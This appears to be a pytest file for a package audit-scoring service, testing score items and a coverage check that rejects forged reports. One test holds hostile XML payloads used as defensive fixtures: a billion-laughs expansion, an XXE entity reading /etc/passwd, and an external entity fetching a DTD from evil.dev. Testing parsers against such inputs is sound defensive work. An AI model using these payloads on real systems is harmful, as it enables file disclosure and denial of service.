"""The audit score (pure): item order, each item's rule, notes, reviews, and the coverage check."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from tank.server.services.pipeline.coverage import check_coverage, is_test_file
from tank.server.services.pipeline.scoring import (
    ITEMS,
    MAX_NOTE_ITEMS,
    ScoreInputs,
    compute,
    with_reviews,
)

BEST = ScoreInputs(
    verdict="pass",
    signer_keyid="ab" * 32,
    install_scripts=False,
    reproducible=True,
    sbom_complete=True,
    coverage_passed=True,
    coverage_note="coverage.json reports 91.0% over all 1 script(s)",
    approvals=5,
    verified_publisher=True,
    advisories=10,
    packages=2,
    vulnerabilities=(),
)


def points(inputs: ScoreInputs) -> dict[str, int]:
    return {key: item["points"] for key, item in compute(inputs).breakdown.items()}


def test_items_are_in_the_fixed_order_and_sum_to_ten() -> None:
    assert [key for key, _ in ITEMS] == [
        "code_signing", "static_analysis", "no_install_scripts", "reproducible_build", "sbom",
        "test_coverage", "community_reviews", "verified_publisher", "no_known_vulnerabilities",
    ]  # fmt: skip
    assert sum(top for _, top in ITEMS) == 10
    score = compute(BEST)
    assert list(score.breakdown) == [key for key, _ in ITEMS]
    assert all(set(item) == {"points", "max", "note"} for item in score.breakdown.values())
    # Coverage is self-reported: it does not earn, and says so. A verified signature earns.
    assert score.total == 9.0
    assert score.breakdown["test_coverage"]["points"] == 0
    assert "self-reported" in score.breakdown["test_coverage"]["note"]
    assert score.breakdown["code_signing"]["points"] == 1
    assert "abababababababab" in score.breakdown["code_signing"]["note"]


def test_the_signing_point_is_earned_only_by_a_verified_signature() -> None:
    unsigned = compute(replace(BEST, signer_keyid=None)).breakdown["code_signing"]
    assert unsigned["points"] == 0 and "not signed" in unsigned["note"]
    revoked = replace(BEST, signer_keyid=None, signature_problem="the key was revoked")
    item = compute(revoked).breakdown["code_signing"]
    assert item["points"] == 0 and "no longer verifies: the key was revoked" in item["note"]


def test_the_worst_inputs_score_zero() -> None:
    score = compute(ScoreInputs(verdict="flagged", install_scripts=True))
    assert score.total == 0.0
    assert all(item["points"] == 0 for item in score.breakdown.values())


@pytest.mark.parametrize(
    ("change", "key"),
    [
        ({"verdict": "flagged"}, "static_analysis"),
        ({"verdict": "fail"}, "static_analysis"),
        ({"install_scripts": True}, "no_install_scripts"),
        ({"reproducible": False}, "reproducible_build"),
        ({"sbom_complete": False, "sbom_gaps": ("requests is not pinned",)}, "sbom"),
        ({"sbom_complete": None, "sbom_error": "boom"}, "sbom"),
        ({"verified_publisher": False}, "verified_publisher"),
        ({"signer_keyid": None}, "code_signing"),
        ({"vulnerabilities": ("GHSA-1 (requests)",)}, "no_known_vulnerabilities"),
        ({"vulnerabilities": None, "vulnerability_error": "bad db"}, "no_known_vulnerabilities"),
        ({"advisories": 0}, "no_known_vulnerabilities"),
    ],
)
def test_each_item_loses_its_point_alone(change: dict[str, object], key: str) -> None:
    before, after = points(BEST), points(replace(BEST, **change))  # type: ignore[arg-type]
    assert after[key] == 0 and before[key] == 1
    assert {k: v for k, v in after.items() if k != key} == {
        k: v for k, v in before.items() if k != key
    }


def test_pass_with_notes_still_passes_static_analysis() -> None:
    assert points(replace(BEST, verdict="pass_with_notes"))["static_analysis"] == 1


def test_notes_explain_and_cap_lists() -> None:
    gaps = tuple(f"gap {i}" for i in range(MAX_NOTE_ITEMS + 2))
    note = compute(replace(BEST, sbom_complete=False, sbom_gaps=gaps)).breakdown["sbom"]["note"]
    assert "gap 0" in note and f"gap {MAX_NOTE_ITEMS}" not in note and "and 2 more" in note
    vulns = compute(replace(BEST, vulnerabilities=("GHSA-x (a)", "PYSEC-1 (b)"))).breakdown
    assert "GHSA-x" in vulns["no_known_vulnerabilities"]["note"]
    assert "PYSEC-1" in vulns["no_known_vulnerabilities"]["note"]
    assert (
        "no advisory database"
        in compute(replace(BEST, advisories=0)).breakdown["no_known_vulnerabilities"]["note"]
    )


@pytest.mark.parametrize(("approvals", "expected"), [(0, 0), (1, 1), (2, 2), (3, 2), (-1, 0)])
def test_reviews_give_one_point_each_up_to_two(approvals: int, expected: int) -> None:
    assert points(replace(BEST, approvals=approvals))["community_reviews"] == expected


def test_with_reviews_changes_only_the_reviews_item() -> None:
    base = compute(replace(BEST, approvals=0))
    again = with_reviews(base.breakdown, 2)
    assert again.total == base.total + 2
    assert again.breakdown["community_reviews"]["points"] == 2
    assert {k: v for k, v in again.breakdown.items() if k != "community_reviews"} == {
        k: v for k, v in base.breakdown.items() if k != "community_reviews"
    }
    assert with_reviews(again.breakdown, 9).total == again.total
    assert base.breakdown["community_reviews"]["points"] == 0  # the input is not mutated


# ---------------------------------------------------------------- the coverage check

SCRIPT = b"def main():\n    return 1\n"
TEST = b"from scripts.run import main\n\ndef test_main():\n    assert main() == 1\n"


def coverage_py(percent: float, files: list[str]) -> bytes:
    return json.dumps(
        {"totals": {"percent_covered": percent}, "files": {f: {} for f in files}}
    ).encode()


def skill(**extra: bytes) -> dict[str, bytes]:
    return {"SKILL.md": b"# s\n", "scripts/run.py": SCRIPT, "tests/test_run.py": TEST, **extra}


def test_test_files_are_recognised() -> None:
    for path in ("tests/a.py", "x/tests/helper.js", "test_a.py", "a_test.py", "w.test.ts",
                 "lib/u.test.js"):  # fmt: skip
        assert is_test_file(path), path
    for path in ("scripts/run.py", "testing.py", "contest.py", "tests.py"):
        assert not is_test_file(path), path


def test_an_honest_coverage_py_report_counts() -> None:
    result = check_coverage(skill(**{"coverage.json": coverage_py(91.5, ["scripts/run.py"])}))
    assert result.passed, result.note
    assert result.percent == 91.5 and result.report == "coverage.json"


def test_absolute_paths_in_the_report_match_by_suffix() -> None:
    report = coverage_py(85, ["/home/ci/skill/scripts/run.py", "/home/ci/skill/tests/t.py"])
    assert check_coverage(skill(**{"coverage.json": report})).passed


@pytest.mark.parametrize(
    ("files", "fragment"),
    [
        ({"SKILL.md": b"x", "scripts/run.py": SCRIPT}, "no tests"),
        ({"SKILL.md": b"x", "tests/test_a.py": TEST}, "no scripts"),
        (skill(), "no coverage report"),
        (skill(**{"coverage.json": coverage_py(80.0, ["scripts/run.py"])}), "80.0%"),
        (skill(**{"coverage.json": coverage_py(99, ["other/code.py"])}), "does not measure"),
        (skill(**{"coverage.json": coverage_py(99, ["xscripts/run.py"])}), "does not measure"),
        (skill(**{"coverage.json": b"{not json"}), "not JSON"),
        (skill(**{"coverage.json": b'{"totals": {"percent_covered": "99"}, "files": {}}'}),
         "not a number"),
        (skill(**{"coverage.json": b'{"totals": {"percent_covered": 500}, "files": {}}'}),
         "outside 0-100"),
        (skill(**{"coverage.json": b'{"files": {"scripts/run.py": {}}}'}), "no totals"),
    ],
)  # fmt: skip
def test_forged_or_missing_reports_do_not_count(files: dict[str, bytes], fragment: str) -> None:
    result = check_coverage(files)
    assert not result.passed
    assert fragment in result.note, result.note


def test_every_script_must_be_measured() -> None:
    files = skill(**{"scripts/extra.sh": b"echo hi\n"})
    files["coverage.json"] = coverage_py(95, ["scripts/run.py"])
    result = check_coverage(files)
    assert not result.passed and "scripts/extra.sh" in result.note
    files["coverage.json"] = coverage_py(95, ["scripts/run.py", "scripts/extra.sh"])
    assert check_coverage(files).passed


COBERTURA = b"""<?xml version="1.0" ?>
<!DOCTYPE coverage SYSTEM "http://cobertura.sourceforge.net/xml/coverage-04.dtd">
<coverage line-rate="0.92" branch-rate="0" version="7.4">
  <sources><source>/home/ci/skill/scripts</source></sources>
  <packages><package name="."><classes>
    <class name="run.py" filename="run.py" line-rate="0.92"/>
  </classes></package></packages>
</coverage>
"""


def test_cobertura_xml_with_sources_counts() -> None:
    result = check_coverage(skill(**{"coverage.xml": COBERTURA}))
    assert result.passed, result.note
    assert result.percent == pytest.approx(92.0)
    low = COBERTURA.replace(b'coverage line-rate="0.92"', b'coverage line-rate="0.5"')
    assert "50.0%" in check_coverage(skill(**{"coverage.xml": low})).note


@pytest.mark.parametrize(
    "xml",
    [
        # billion laughs
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 '
        b'"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        b'<coverage line-rate="0.99"><x>&lol2;</x></coverage>',
        # XXE: an external entity reading a local file
        b'<?xml version="1.0"?><!DOCTYPE c [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<coverage line-rate="0.99"><class filename="&xxe;"/></coverage>',
        # external parameter entity
        b'<?xml version="1.0"?><!DOCTYPE c [<!ENTITY % p SYSTEM "http://evil.dev/x.dtd"> %p;]>'
        b'<coverage line-rate="0.99"/>',
        b'<coverage line-rate="0.99"><class filename="run.py">',  # not well-formed
        b'<report line-rate="0.99"/>',
        b'<coverage line-rate="high"/>',
        b"<coverage/>",
    ],
)
def test_hostile_or_malformed_xml_is_refused(xml: bytes) -> None:
    result = check_coverage(skill(**{"coverage.xml": xml}))
    assert not result.passed
    assert "coverage.xml is not a valid Cobertura XML report" in result.note, result.note
    if b"ENTITY" in xml:  # refused at the declaration, before any expansion or fetch
        assert "entity declarations and external entities are refused" in result.note


def test_istanbul_summary_counts_and_ignores_its_own_html() -> None:
    summary: dict[str, Any] = {
        "total": {"lines": {"pct": 88.2}},
        "/ci/skill/scripts/run.js": {"lines": {"pct": 88.2}},
    }
    files = {
        "SKILL.md": b"x",
        "scripts/run.js": b"module.exports = 1\n",
        "scripts/run.test.js": b"test('x', () => {})\n",
        "coverage/coverage-summary.json": json.dumps(summary).encode(),
        "coverage/lcov-report/prettify.js": b"/* report asset, not a script */",
    }
    result = check_coverage(files)
    assert result.passed, result.note
    summary["total"] = {"lines": {"pct": "Unknown"}}
    files["coverage/coverage-summary.json"] = json.dumps(summary).encode()
    assert not check_coverage(files).passed


def test_one_good_report_among_bad_ones_counts() -> None:
    files = skill(**{"coverage.json": b"junk", "coverage.xml": COBERTURA})
    assert check_coverage(files).passed


def test_a_skill_without_third_party_packages_has_no_known_vulnerabilities() -> None:
    # Nothing to be vulnerable: the point holds even with no advisory database configured.
    alone = compute(replace(BEST, packages=0, advisories=0)).breakdown["no_known_vulnerabilities"]
    assert alone["points"] == 1 and "no third-party" in alone["note"]
    # With packages and no database, the point is not claimed (fail closed).
    unchecked = compute(replace(BEST, advisories=0)).breakdown["no_known_vulnerabilities"]
    assert unchecked["points"] == 0
